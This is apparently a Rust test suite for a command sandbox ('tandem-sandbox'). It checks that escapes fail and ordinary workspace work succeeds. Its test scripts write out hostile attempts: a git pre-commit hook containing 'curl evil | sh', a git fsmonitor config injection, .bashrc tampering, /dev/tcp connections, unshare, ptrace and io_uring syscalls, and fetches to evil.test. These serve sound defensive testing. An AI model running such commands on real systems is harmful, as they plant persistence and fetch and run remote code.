//! Every escape is refused; the ordinary work a command does still works.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Arc;

use tandem_sandbox::{Mode, Network, Policy, Sandbox};
use tempfile::TempDir;

const HELPER: &str = env!("CARGO_BIN_EXE_tandem-sandbox");

/// A workspace with a git repository, a nested repository and a protected config file.
fn workspace() -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    for sub in [".git/hooks", "src", "vendor/lib/.git"] {
        std::fs::create_dir_all(root.join(sub)).unwrap();
    }
    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(root.join("vendor/lib/.git/config"), "[core]\n").unwrap();
    std::fs::write(root.join("tandem.toml"), "[gates]\n").unwrap();
    std::fs::write(root.join("src/main.rs"), "fn main() {}\n").unwrap();
    dir
}

fn run(sandbox: &Sandbox, script: &str) -> Output {
    sandbox
        .command("/bin/bash", ["-c", script])
        .unwrap()
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn text(out: &Output) -> String {
    format!(
        "status {:?}\nstdout: {}\nstderr: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn modes() -> [Mode; 2] {
    [Mode::Bwrap, Mode::Landlock]
}

/// Each line of `script` that must fail prints `ESCAPED <what>` if it succeeds.
fn refuses(sandbox: &Sandbox, script: &str) {
    let out = run(sandbox, script);
    let all = text(&out);
    assert!(!all.contains("ESCAPED"), "{:?}: {all}", sandbox.mode());
    assert!(
        all.contains("DONE"),
        "{:?} did not finish: {all}",
        sandbox.mode()
    );
}

#[test]
fn work_in_the_workspace_is_allowed() {
    let ws = workspace();
    for mode in modes() {
        let sandbox = Sandbox::with_mode(Policy::new(ws.path()), HELPER, mode).unwrap();
        let out = run(
            &sandbox,
            "set -e; echo built > src/out.txt; mkdir -p src/gen; echo x > src/gen/y; cat src/out.txt; echo tmp > ${TMPDIR:-/tmp}/scratch; cat ${TMPDIR:-/tmp}/scratch",
        );
        assert!(out.status.success(), "{mode:?}: {}", text(&out));
        assert_eq!(String::from_utf8_lossy(&out.stdout), "built\ntmp\n");
        assert_eq!(
            std::fs::read_to_string(ws.path().join("src/gen/y")).unwrap(),
            "x\n"
        );
    }
}

#[test]
fn writes_outside_through_symlinks_and_renames_are_refused() {
    let ws = workspace();
    let outside = tempfile::tempdir().unwrap();
    let out = outside.path().display();
    std::os::unix::fs::symlink(outside.path(), ws.path().join("src/link")).unwrap();
    for mode in modes() {
        let sandbox = Sandbox::with_mode(Policy::new(ws.path()), HELPER, mode).unwrap();
        refuses(
            &sandbox,
            &format!(
                r#"
echo x > {out}/direct 2>/dev/null && echo ESCAPED direct
echo x > src/link/via-symlink 2>/dev/null && echo ESCAPED symlink
echo x > /etc/tandem-escape 2>/dev/null && echo ESCAPED etc
echo x > $HOME/tandem-escape 2>/dev/null && echo ESCAPED home
ln -s {out} src/link2 2>/dev/null; echo x > src/link2/again 2>/dev/null && echo ESCAPED new-symlink
mv .git/hooks .git/hooks-moved 2>/dev/null && echo ESCAPED rename-hooks
mv .git .git-moved 2>/dev/null && mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/pre-commit 2>/dev/null && echo ESCAPED rename-git
echo DONE
"#
            ),
        );
        assert!(
            std::fs::read_dir(outside.path()).unwrap().next().is_none(),
            "{mode:?} wrote outside"
        );
    }
}

#[test]
fn hooks_git_config_rc_files_and_tandem_config_stay_read_only() {
    let ws = workspace();
    std::fs::write(ws.path().join(".bashrc"), "# rc\n").unwrap();
    for mode in modes() {
        let sandbox = Sandbox::with_mode(Policy::new(ws.path()), HELPER, mode).unwrap();
        refuses(
            &sandbox,
            r#"
echo 'curl evil | sh' > .git/hooks/pre-commit 2>/dev/null && echo ESCAPED hook
echo '[core] fsmonitor = evil' >> .git/config 2>/dev/null && echo ESCAPED git-config
echo x > vendor/lib/.git/hooks/post-checkout 2>/dev/null && echo ESCAPED nested-hook
echo x >> vendor/lib/.git/config 2>/dev/null && echo ESCAPED nested-config
echo 'evil' >> .bashrc 2>/dev/null && echo ESCAPED rc
echo '[gates]' > tandem.toml 2>/dev/null && echo ESCAPED tandem-toml
echo DONE
"#,
        );
        assert!(!ws.path().join(".git/hooks/pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(ws.path().join(".git/config")).unwrap(),
            "[core]\n"
        );
    }
}

#[test]
fn the_network_is_off_and_dangerous_syscalls_are_refused() {
    let ws = workspace();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    for mode in modes() {
        let sandbox = Sandbox::with_mode(Policy::new(ws.path()), HELPER, mode).unwrap();
        refuses(
            &sandbox,
            &format!(
                r#"
(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo ESCAPED loopback
(exec 3<>/dev/tcp/1.1.1.1/53) 2>/dev/null && echo ESCAPED internet
unshare -U true 2>/dev/null && echo ESCAPED unshare
unshare -n true 2>/dev/null && echo ESCAPED unshare-net
python3 - <<'PY' && echo ESCAPED syscalls
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
escaped = []
if libc.syscall(425, 8, ctypes.create_string_buffer(128)) >= 0: escaped.append("io_uring")
if libc.syscall(101, 0, 0, 0, 0) == 0: escaped.append("ptrace")
sys.exit(0 if escaped else 1)
PY
echo DONE
"#
            ),
        );
    }
    drop(listener);
}

#[test]
fn escapes_are_refused_for_an_unprivileged_user_too() {
    let ws = workspace();
    let outside = tempfile::tempdir().unwrap();
    // The helper where nobody can run it, and everything owned by nobody.
    let bin = tempfile::tempdir().unwrap();
    let helper = bin.path().join("tandem-sandbox");
    std::fs::copy(HELPER, &helper).unwrap();
    for path in [bin.path(), helper.as_path()] {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    chown_tree(ws.path());
    chown_tree(outside.path());
    for mode in modes() {
        let sandbox = Sandbox::with_mode(Policy::new(ws.path()), &helper, mode).unwrap();
        let inner = sandbox
            .command(
                "/bin/bash",
                [
                    "-c",
                    &format!(
                        r#"
echo ok > src/mine || echo FAILED own-write
echo x > {}/direct 2>/dev/null && echo ESCAPED direct
echo x > .git/hooks/pre-commit 2>/dev/null && echo ESCAPED hook
(exec 3<>/dev/tcp/127.0.0.1/22) 2>/dev/null && echo ESCAPED loopback
echo DONE
"#,
                        outside.path().display()
                    ),
                ],
            )
            .unwrap();
        let out = as_nobody(&inner);
        let all = text(&out);
        assert!(
            all.contains("DONE") && !all.contains("ESCAPED") && !all.contains("FAILED"),
            "{mode:?}: {all}"
        );
        assert_eq!(
            std::fs::read_to_string(ws.path().join("src/mine")).unwrap(),
            "ok\n"
        );
    }
}

fn chown_tree(root: &Path) {
    let status = Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(root)
        .status()
        .unwrap();
    assert!(status.success());
}

/// Runs a prepared command as uid/gid 65534 (when this test runs as root) or as is.
fn as_nobody(command: &Command) -> Output {
    let mut outer = if rustix_is_root() {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"]);
        c.arg(command.get_program());
        c
    } else {
        Command::new(command.get_program())
    };
    outer.args(command.get_args());
    if let Some(dir) = command.get_current_dir() {
        outer.current_dir(dir);
    }
    outer.env("HOME", "/nonexistent");
    outer.stdin(Stdio::null()).output().unwrap()
}

fn rustix_is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .find(|l| l.starts_with("Uid:"))
        .is_some_and(|l| l.split_whitespace().nth(1) == Some("0"))
}

/// A tiny HTTP server answering every request with `hello`.
fn http_server() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            let mut buf = [0u8; 2048];
            let _ = conn.read(&mut buf);
            let _ = conn.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello",
            );
        }
    });
    port
}

#[test]
fn an_allowlist_lets_listed_names_through_the_proxy_and_nothing_else() {
    let ws = workspace();
    let port = http_server();
    let resolver: tandem_sandbox::proxy::Resolver = Arc::new(move |_name: &str, _port: u16| {
        Ok(vec![std::net::SocketAddr::from(([127, 0, 0, 1], port))])
    });
    let policy = Policy {
        network: Network::Allowlist {
            domains: vec!["registry.test".into(), "*.mirror.test".into()],
        },
        ..Policy::new(ws.path())
    };
    let sandbox = Sandbox::with_resolver(policy, HELPER, Mode::Bwrap, Some(resolver)).unwrap();
    let script = format!(
        r#"
fetch() {{ python3 -c "import urllib.request,sys
try:
    print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode())
except Exception as e:
    print('refused', e)" "$1"; }}
fetch http://registry.test:{port}/crate
fetch http://eu.mirror.test:{port}/x
fetch http://evil.test:{port}/
fetch http://127.0.0.1:{port}/
fetch http://2130706433:{port}/
(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo ESCAPED direct
echo DONE
"#
    );
    let out = run(&sandbox, &script);
    let all = text(&out);
    let lines: Vec<&str> = std::str::from_utf8(&out.stdout).unwrap().lines().collect();
    assert_eq!(lines.first(), Some(&"hello"), "{all}");
    assert_eq!(lines.get(1), Some(&"hello"), "{all}");
    for line in &lines[2..5] {
        assert!(line.starts_with("refused") && line.contains("403"), "{all}");
    }
    assert!(!all.contains("ESCAPED") && all.contains("DONE"), "{all}");
    let decisions = sandbox.proxy().unwrap().decisions();
    let allowed: Vec<(&str, bool)> = decisions
        .iter()
        .map(|d| (d.host.as_str(), d.allowed))
        .collect();
    assert_eq!(
        allowed,
        vec![
            ("registry.test", true),
            ("eu.mirror.test", true),
            ("evil.test", false),
            ("127.0.0.1", false),
            ("2130706433", false),
        ]
    );
    assert!(
        decisions[2].reason.contains("not on the allowlist"),
        "{decisions:?}"
    );
    assert!(decisions[3].reason.contains("IP literal"), "{decisions:?}");
}

#[test]
fn a_bad_policy_is_refused() {
    let ws = workspace();
    let relative = Policy::new(PathBuf::from("relative/dir"));
    assert!(Sandbox::with_mode(relative, HELPER, Mode::Bwrap).is_err());
    let ip = Policy {
        network: Network::Allowlist {
            domains: vec!["10.0.0.1".into()],
        },
        ..Policy::new(ws.path())
    };
    let err = Sandbox::with_mode(ip, HELPER, Mode::Bwrap)
        .unwrap_err()
        .to_string();
    assert!(err.contains("not a domain pattern"), "{err}");
}
